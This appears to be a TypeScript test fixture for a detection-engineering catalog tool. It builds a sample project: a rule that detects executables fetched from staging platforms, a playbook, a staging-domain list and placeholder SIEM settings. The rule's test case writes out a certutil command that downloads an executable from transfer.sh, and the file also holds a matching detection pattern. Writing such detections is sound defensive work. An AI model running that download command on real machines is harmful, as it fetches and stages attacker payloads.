import { readCatalog } from "../../src/catalog";
import type { Catalog, ProjectFiles } from "../../src/catalog";
import { renderDiagnostic } from "../../src/diagnostics";

/** Where the files of the sample project stand. */
export const DETECTION = "queries/T1608/staging-download/detection.yaml";
export const KQL = "queries/T1608/staging-download/staging.kql";
export const CSE = "queries/T1608/staging-download/staging.cse";
export const PLAYBOOK = "queries/T1608/playbook.md";
export const LIST = "queries/lists/staging-domains.yaml";
export const FUNCTION = "queries/functions/known-hosts.yaml";
export const RING = "environments/rings/prod.yaml";
export const GROUP = "environments/groups/banks.yaml";
export const ENVIRONMENT = "environments/acme-prod.yaml";

const detection = `id: staging-download
name: Executable fetched from a staging platform
status: stable
owner: detection-engineering
authors: [Jane Doe]
version: 1.0.0
created: 2026-11-22
reviewed: 2026-11-22
severity: high
confidence: medium
attack:
  tactics: [command-and-control]
  techniques: [T1608, T1105]
description: A process fetches an executable from a platform that attackers stage their tools on.
tags: [web]
parameters:
  lookback:
    type: duration
    description: How far back a run looks.
    default: 1h
    sets: [queryPeriod]
    rules: [staging-download-sentinel]
playbook: T1608
rules:
  sentinel:
    - id: staging-download-sentinel
      kind: scheduled
      requires:
        tables: [DeviceNetworkEvents]
      query: staging.kql
      queryFrequency: 1h
      queryPeriod: 1h
  sumologic:
    - id: staging-download-cse
      kind: match
      requires:
        record_types: [EndpointProcess]
      entity_selectors:
        - { entity_type: _hostname, expression: device_hostname }
      expression: staging.cse
tests:
  - name: certutil fetches an executable
    expect: fires
    behaviour: certutil -urlcache -f http://transfer.sh/x/a.exe
    rules: [staging-download-sentinel]
`;

const playbook = `# Stage_Capabilities - T1608

| Column Name | Value |
|---|---|
| MITRE Tactic | Resource Development |
| MITRE TTP | T1608 |
| MITRE Sub-TTP | T1608 |
| Name | Stage Capabilities |
| Log Sources to Investigate | Proxy logs. |
| Key Indicators | New files. |
| Questions for Analysis | Who put them there? |
| Decision for Escalation | Escalate when nobody knows. |
| Additional Analysis Steps for L1 | Find the uploader. |
| T2 Analyst Actions | Open the files in a sandbox. |
| Containment and Further Analysis | Remove the files. |
`;

const list = `id: staging-domains
name: Staging domains
description: Platforms that attackers stage their tools on.
items:
  - value: transfer.sh
    description: Anonymous uploads.
sentinel:
  searchKey: Domain
`;

const knownHosts = `id: known-hosts
name: Known hosts
parameters: ["days:int=7"]
query: DeviceInfo | where TimeGenerated > ago(1d * days)
`;

const environment = `id: acme-prod
name: ACME, production
tenant: acme
ring: prod
groups: [banks]
sentinel:
  tenantId: 00000000-0000-0000-0000-000000000001
  subscriptionId: 00000000-0000-0000-0000-000000000002
  resourceGroup: rg-soc
  workspace: acme-prod
  data:
    tables: [DeviceNetworkEvents]
    connectors: unknown
sumologic:
  deployment: eu
  userId: "00000000000000AB"
  data:
    recordTypes: [EndpointProcess]
backend:
  type: azurerm
  resourceGroup: rg-state
  storageAccount: acmestate
  container: siemform
overrides:
  - select: { id: staging-download }
    set: { severity: medium }
    reason: noisy build agents
    owner: jane
    ticket: SOC-1
    expires: 2027-01-31
filters:
  - name: hosts
    select: { technique: T1608 }
    sentinel: DeviceName startswith "build-"
    reason: build agents
    owner: jane
    ticket: SOC-2
    expires: 2027-01-31
`;

const FILES: readonly (readonly [string, string])[] = [
  [ENVIRONMENT, environment],
  [GROUP, "id: banks\n"],
  [RING, "id: prod\norder: 3\n"],
  [PLAYBOOK, playbook],
  [DETECTION, detection],
  [CSE, "baseImage LIKE '%certutil.exe'\n"],
  [KQL, "let lookback = 1h;\nDeviceNetworkEvents\n| where TimeGenerated > ago(lookback)\n"],
  [FUNCTION, knownHosts],
  [LIST, list],
];

/** A change of a project: replaces in a file, whole files, `undefined` to remove one. */
export type Change = (files: Map<string, string>) => void;

/** A project without a mistake, or with those that changes make. */
export function project(...changes: readonly Change[]): ProjectFiles {
  const files = new Map(FILES);
  changes.forEach((change) => change(files));
  return new Map([...files].sort(([a], [b]) => (a < b ? -1 : 1)));
}

/** Replaces a text in a file. @throws RangeError when it does not stand there, for then the case would show nothing. */
export function replace(file: string, found: string, by: string): Change {
  return (files) => {
    const text = files.get(file) ?? "";
    if (!text.includes(found)) throw new RangeError(`${file} does not hold: ${found}`);
    files.set(
      file,
      text.replace(found, () => by),
    );
  };
}

/** Writes a file. */
export function write(file: string, text: string): Change {
  return (files) => files.set(file, text);
}

/** Removes a file. */
export function remove(file: string): Change {
  return (files) => files.delete(file);
}

/** A project read. */
export function catalogOf(...changes: readonly Change[]): Catalog {
  return readCatalog(project(...changes));
}

/** Every mistake of a project on a line: place, code, message, help. */
export function mistakes(...changes: readonly Change[]): string[] {
  return catalogOf(...changes).diagnostics.map(({ file, line, column, code, message, help }) => {
    const place = line === undefined ? (file ?? "") : `${file ?? ""}:${line}:${column ?? 1}`;
    return `${place.replace(/^.*\/(?=[^/]+\/[^/]+$)/, "…/")} ${code}: ${message} -> ${help}`;
  });
}

/** Every mistake of a project as the terminal shows it. */
export function shown(...changes: readonly Change[]): string {
  const files = project(...changes);
  const { diagnostics } = readCatalog(files);
  return diagnostics.map((each) => renderDiagnostic(each, { textOf: (file) => files.get(file) })).join("\n\n");
}

/** Puts a rule of Sumo Logic, the lines below its `id: r1`, in the place of the sample's. */
export function sumoRule(rule: string): Change {
  return (files) => {
    const text = files.get(DETECTION) ?? "";
    const lines = rule.trimEnd().replace(/^/gm, "      ");
    files.set(
      DETECTION,
      text.replace(/ {2}sumologic:\n[^]*?(?=tests:)/, () => `  sumologic:\n    - id: r1\n${lines}\n`),
    );
    files.delete(CSE);
  };
}
